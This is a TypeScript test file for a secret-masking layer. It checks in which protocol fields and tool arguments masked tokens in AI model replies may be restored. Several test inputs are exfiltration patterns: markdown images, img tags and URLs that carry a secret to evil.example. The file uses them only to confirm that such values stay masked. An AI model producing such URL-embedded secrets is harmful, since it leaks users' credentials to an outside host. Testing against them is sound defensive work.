/** Which strings of a reply may bear values again, in each protocol, streamed and whole. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ProtocolName } from '#exchange'
import { compile, Lane } from '#masking'
import { type Json, PLACES } from './places.ts'
import { Restoring } from './restoring.ts'

const MARK = `[masked:npm-token#${'0'.repeat(16)}]`
const taken = new Map([[MARK, 'value']])
const ENGINE = compile([])
const restoring = (name: ProtocolName) =>
  new Restoring({ taken, places: PLACES[name], covers: () => true, gives: () => undefined })

function inLane(name: ProtocolName, lane: string, text: string, ...events: Json[]): string {
  const reply = restoring(name)
  for (const event of events) reply.hear(JSON.stringify(event))
  const masked = new Lane(ENGINE, 'text')
  const back = reply.back(masked, lane)
  masked.push(text)
  masked.end()
  const segments = [{ lane: masked, from: 0, to: text.length, value: text, back }]
  assert.ok(reply.ready(segments, [{ segments }]))
  return back.render()
}

const call = (name: string) => ({ choices: [{ index: 0, delta: { tool_calls: [{ index: 1, function: { name } }] } }] })
const block = (name: string) => ({ type: 'content_block_start', index: 2, content_block: { type: 'tool_use', name } })
const item = (name: string, type = 'function_call') => ({
  type: 'response.output_item.added',
  output_index: 3,
  item: { type, name },
})
const args = (field: string, path = 'path') => JSON.stringify({ [path]: 'a.ts', [field]: MARK })
const PATCH = `*** Update File: a.ts\n+${MARK}`

test('text lanes bear values, reasoning and unknown lanes do not', () => {
  const rows: [ProtocolName, string, boolean][] = [
    ['chat', 'choices/0/content', true],
    ['chat', 'choices/0/reasoning_content', false],
    ['chat', 'chunk:choices.0.delta.new_field', false],
    ['completions', 'choices/0/text', true],
    ['messages', 'content/0/text', true],
    ['messages', 'content/0/thinking', false],
    ['responses', 'output/0/0/response.output_text', true],
    ['responses', 'output/0/0/response.reasoning_summary_text', false],
    ['responses', 'output/0/0/response.refusal', false],
    ['chat', 'raw', false],
  ]
  for (const [name, lane, back] of rows) assert.equal(inLane(name, lane, MARK), back ? 'value' : MARK, lane)
})

test('arguments bear values only for a listed tool that edits files, in its listed fields', () => {
  const rows: [ProtocolName, string, Json, string, boolean][] = [
    ['chat', 'choices/0/tool/1/arguments', call('edit'), args('new_str'), true],
    ['chat', 'choices/0/tool/1/arguments', call('bash'), args('new_str'), false],
    ['chat', 'choices/0/tool/0/arguments', call('edit'), args('new_str'), false],
    ['messages', 'content/2/partial_json', block('Edit'), args('new_string', 'file_path'), true],
    ['messages', 'content/2/partial_json', block('Bash'), args('command'), false],
    ['messages', 'content/2/partial_json', block('WebFetch'), args('url'), false],
    ['messages', 'content/2/partial_json', block('mcp__files__Edit'), args('new_string'), false],
    ['messages', 'content/2/partial_json', block('constructor'), args('new_string'), false],
    ['messages', 'content/2/partial_json', block('Edit'), args('file_path'), false],
    [
      'responses',
      'output/3/0/response.function_call_arguments',
      item('apply_patch'),
      JSON.stringify({ input: PATCH }),
      true,
    ],
    ['responses', 'output/3/0/response.function_call_arguments', item('shell'), args('input'), false],
    ['responses', 'output/3/0/response.custom_tool_call_input', item('apply_patch', 'custom_tool_call'), PATCH, true],
    ['responses', 'output/3/0/response.custom_tool_call_input', item('python', 'custom_tool_call'), PATCH, false],
  ]
  for (const [name, lane, event, text, back] of rows)
    assert.equal(inLane(name, lane, text, event), back ? text.replace(MARK, 'value') : text, `${lane} ${text}`)
})

test('complete strings of a document bear values in the same places', () => {
  const chat = (name: string) => ({ choices: [{ message: { tool_calls: [{ function: { name } }] } }] })
  const messages = (type: string, name: string) => ({ content: [{ type, name, input: { file_path: 'a.ts' } }] })
  const output = (type: string, name: string) => ({ output: [{ type, name, content: [{ type: 'output_text' }] }] })
  const rows: [ProtocolName, Json, string, string, boolean][] = [
    ['chat', {}, 'choices.0.message.content', MARK, true],
    ['chat', {}, 'choices.0.message.name', MARK, false],
    ['chat', chat('create'), 'choices.0.message.tool_calls.0.function.arguments', args('file_text'), true],
    ['chat', chat('run'), 'choices.0.message.tool_calls.0.function.arguments', args('file_text'), false],
    ['messages', messages('text', ''), 'content.0.text', MARK, true],
    ['messages', messages('tool_use', 'Write'), 'content.0.input.content', MARK, true],
    ['messages', messages('tool_use', 'Bash'), 'content.0.input.command', MARK, false],
    ['messages', messages('mcp_tool_use', 'Write'), 'content.0.input.content', MARK, false],
    ['messages', messages('tool_use', 'MultiEdit'), 'content.0.input.edits.1.new_string', MARK, true],
    ['responses', output('message', ''), 'output.0.content.0.text', MARK, true],
    ['responses', output('function_call', 'Edit'), 'output.0.arguments', args('new_string', 'file_path'), true],
    ['responses', output('mcp_call', 'Edit'), 'output.0.arguments', args('new_string'), false],
    ['responses', { type: 'response.output_text.done' }, 'text', MARK, true],
    ['responses', { type: 'response.reasoning_summary_text.done' }, 'text', MARK, false],
  ]
  for (const [name, document, path, text, back] of rows) {
    const reply = restoring(name)
    assert.equal(reply.whole(document, path, text), back ? text.replace(MARK, 'value') : text, path)
    assert.deepEqual([reply.tally.restored.size, reply.tally.refused.size], back ? [1, 0] : [0, 1])
  }
})

test('the id of a reply is heard, streamed and whole', () => {
  const reply = restoring('responses')
  reply.hear('{"type":"response.created","response":{"id":"resp_1"}}')
  assert.equal(reply.responseId, 'resp_1')
  reply.hear('{"object":"response","id":"resp_2"}')
  assert.equal(reply.responseId, 'resp_2')
})

test('texts that are shown in a row are read as one', () => {
  const rows: [first: string, second: string, back: boolean][] = [
    ['Well,', ` it is ${MARK}.`, true],
    ['', `${MARK}.`, true],
    ['![x](https:&sol;&sol;evil.example&sol;', `${MARK})`, false],
    ['<img src="https://evil.example/?a=', `${MARK} ">`, false],
    ['a <', `img src="//e/? ${MARK}">`, false],
    ['see https://evil.example/?', `${MARK} `, false],
    ['``', `\`html\n${MARK}`, false],
    ['x', `\`\`\`\n${MARK}\n\`\`\``, false],
    ['```\n', `${MARK}\n`, false],
  ]
  for (const [first, second, back] of rows) {
    const document = { content: [{ type: 'text' }, { type: 'thinking' }, { type: 'text' }] }
    const whole = restoring('messages')
    whole.whole(document, 'content.0.text', first)
    assert.equal(whole.whole(document, 'content.2.text', second).includes('value'), back, second)
    for (const ended of [true, false]) {
      const reply = restoring('messages')
      const lanes = [first, second].map((text, nth) => {
        const lane = new Lane(ENGINE, 'text')
        const made = reply.back(lane, `content/${nth * 2}/text`)
        lane.push(text)
        if (ended) lane.end()
        return { lane, from: 0, to: text.length, value: text, back: made }
      })
      const segments = lanes.filter(({ value }) => value !== '')
      reply.ready(segments, [{ segments }])
      const { lane, back: made } = lanes[1] ?? assert.fail()
      lane.end()
      reply.ready(segments, [{ segments }])
      assert.equal(made.render().includes('value'), back && ended, `${ended} ${second}`)
    }
  }
})
